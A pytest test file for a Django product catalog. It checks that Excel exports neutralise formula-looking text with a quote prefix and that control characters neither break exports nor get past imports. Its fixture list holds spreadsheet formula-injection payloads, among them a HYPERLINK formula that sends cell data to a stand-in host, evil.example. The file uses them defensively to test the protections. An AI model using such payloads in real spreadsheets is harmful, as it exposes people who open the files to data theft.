"""Issue 12 item 6 (the Excel part): exported user text never runs as a formula, characters Excel cannot
hold never break an export, and an import refuses them naming the field."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.db import transaction
from openpyxl import load_workbook

from sihe.catalog import excel, exports, imports, services
from sihe.catalog.models import Partner, Product

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_issue12_item6_exported_text_never_runs_as_a_formula(actor):
    # given products whose names look like formulas
    with transaction.atomic():
        for i, name in enumerate(FORMULAS):
            services.create_product(data={"sku": f"F-{i}", "name": name, "uom": "PCS", "weight": "1.5"}, actor=actor)
        services.create_product(data={"sku": "=1+1", "name": "plain", "uom": "PCS"}, actor=actor)

    # when they are exported
    content = exports.export_workbook(kind="products", language="zh-hans")

    # then the file holds no formula at all, and each such cell is literal text with the quote prefix
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for i in range(len(FORMULAS)):
        cell, stored = names[f"F-{i}"], Product.objects.get(sku=f"F-{i}").name  # cleaning strips a leading tab
        assert (cell.value, cell.data_type, cell.quotePrefix) == (stored, "s", True)
    assert names["=1+1"].value == "plain" and not names["=1+1"].quotePrefix
    sku = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == "=1+1")
    assert (sku.data_type, sku.quotePrefix) == ("s", True)
    weight = next(row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == "F-0")
    assert (weight.value, weight.data_type) == (1.5, "n")

    # and the file imports back unchanged
    result = imports.run_import(kind="products", source=io.BytesIO(content), actor=actor)
    assert (result.updated, result.unchanged) == (0, len(FORMULAS) + 1)


def test_issue12_item6_negative_numbers_stay_numbers():
    content = excel.build_workbook("products", [["N-1", "-5", None, None, "PCS", None, Decimal("-1.25"), Decimal("-3")]],
                                   language="en")
    row = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in (row[1], row[6], row[7])] == [
        ("-5", "s", True), (-1.25, "n", False), (-3, "n", False)]


def test_issue12_item6_control_characters_do_not_break_exports(actor):
    # given names with a vertical tab (a line break pasted from Word) and other control characters, stored
    # before the services refused them (the API and the import refuse them now: see the tests beside)
    with transaction.atomic():
        services.create_product(data={"sku": "V-1", "name": "第一行 第二行", "uom": "PCS"}, actor=actor)
        services.create_partner(data={"code": "C 1", "name": "客户 甲", "kind": "customer",
                                      "contact": "=张三"}, actor=actor)
    Product.objects.filter(sku="V-1").update(name="第一行\u000b第二行")
    Partner.objects.filter(code="C 1").update(code="C\u00011", name="客户\u001f甲", contact="=张三\u0007")

    # when everything is exported, then the export works and the characters became spaces
    products = load_workbook(io.BytesIO(exports.export_workbook(kind="products"))).worksheets[0]
    assert products["B2"].value == "第一行 第二行"
    partners = load_workbook(io.BytesIO(exports.export_workbook(kind="partners", language="en"))).worksheets[0]
    assert [partners["A2"].value, partners["B2"].value, partners["J2"].value] == ["C 1", "客户 甲", "=张三 "]
    assert partners["J2"].quotePrefix and partners["J2"].data_type == "s"
    assert Product.objects.get(sku="V-1").name == "第一行\u000b第二行"  # an export changes nothing


@pytest.mark.parametrize("text, char", [("第一行_x000B_第二行", "U+000B"), ("A_x001F_", "U+001F"), ("\u0007响铃", "U+0007")])
def test_issue12_item6_import_refuses_control_characters_naming_the_field(xlsx, actor, text, char):
    from sihe.catalog.excel import Header

    # Excel writes a control character as _x000B_, which is what openpyxl reads back
    if text.startswith("\u0007"):  # no .xlsx can carry the raw character: the reader is given it directly
        header = Header(excel.COLUMNS["products"], ("sku",), ["SKU", "名称", "单位"])
        data, errors = header.read(3, ("V-1", text, "PCS"))
    else:
        file = xlsx(["SKU", "名称", "单位"], [["OK-1", "好", "PCS"], ["V-1", text, "PCS"]])
        with pytest.raises(imports.ImportRejected) as caught:
            imports.run_import(kind="products", source=file, actor=actor)
        errors = caught.value.extra["errors"]
    assert [(e["row"], e["column"], e["header"], e["field"], e["message"]) for e in errors] == [
        (3, "B", "名称", "name", f"contains the control character {char}, which Excel cannot hold; remove it")]
    assert Product.objects.count() == 0
    assert Partner.objects.count() == 0
